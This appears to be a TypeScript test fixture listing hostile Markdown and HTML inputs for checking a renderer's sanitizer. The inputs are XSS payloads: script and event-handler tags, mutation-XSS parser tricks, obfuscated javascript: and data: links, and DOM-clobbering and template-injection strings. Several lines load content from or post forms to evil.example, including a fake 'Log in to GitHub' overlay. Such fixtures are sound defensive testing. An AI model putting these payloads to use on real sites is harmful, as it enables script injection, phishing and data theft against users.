/** Markdown that wants to run, load, cover or lead astray. What would run calls `__xss` with the number of its item. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  // HTML that runs.
  '<script>__xss(0)</script>', '<img src=x onerror="__xss(1)">', '<img/src=x\nonerror\n=\n"__xss(2)">', '<svg onload="__xss(3)"></svg>', '<svg><script>__xss(4)</script></svg>', '<details open ontoggle="__xss(5)"><summary>More</summary></details>',
  '<iframe srcdoc="&lt;script&gt;parent.__xss(6)&lt;/script&gt;"></iframe>', '<object data="data:text/html,<script>parent.__xss(7)</script>"></object>', '<b onmouseover="__xss(8)" onclick="__xss(8)">Apply</b>', '<input autofocus onfocus="__xss(9)">',
  '<video><source onerror="__xss(10)"></video>', '<body onload="__xss(11)">', 'Text before <img src=x onerror=__xss(12) ', '| Skill | Level |\n|---|---|\n| <img src=x onerror=__xss(13)> | Go |', '<style>@keyframes x{}</style><p style="animation:x" onanimationstart="__xss(14)">a</p>',
  // HTML that becomes other HTML when it is parsed again.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__xss(15)&gt;">', '<noscript><p title="</noscript><img src=x onerror=__xss(16)>"></noscript>', '<template><img src=x onerror=__xss(17)></template>',
  '<svg></p><style><a id="</style><img src=x onerror=__xss(18)>">', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__xss(19)></style></annotation-xml></math>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss(20)>',
  // Links.
  '[Apply](javascript:__xss(21))', '[Apply](&#106;avascript&colon;__xss(22))', '[Apply](<\u0001javascript:__xss(23)>)', '[Apply](JaVaScRiPt:__xss(24))', '[Apply](java\tscript:__xss(25))', '[Apply](data:text/html,<script>__xss(26)</script>)', '[Apply](vbscript:msgbox)',
  '[Apply][go]\n\n[go]: javascript:__xss(28)', '<javascript:__xss(29)>', '[Apply](//evil.example/apply)', '[Apply](https://ok.example/"onmouseover="__xss(31))', '<a href="javascript:__xss(32)" target="_self">Apply</a>',
  // What loads from elsewhere, covers the page or changes its addresses.
  '![](https://evil.example/pixel.gif)', '<img src="https://evil.example/p.gif" srcset="https://evil.example/q.gif 2x">', '<link rel="stylesheet" href="https://evil.example/x.css">', '<style>@import url(https://evil.example/y.css); main { display: none }</style>', '<base href="https://evil.example/">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/z.gif)">Log in to GitHub</div>', '<iframe src="https://evil.example/"></iframe>', '<form action="https://evil.example/" id="search"><input name="q"><button>Search</button></form>',
  // Names that a page's own script may ask for.
  '<div id="root"></div><div id="main"></div><a id="first-view">{}</a>', '<img name="body"><form name="documentElement"><input name="dataset"></form>', '</script><script>__xss(43)</script>', '</div></main><script>__xss(44)</script>', '{{constructor.constructor("__xss(45)")()}} ${__xss(45)}',
]
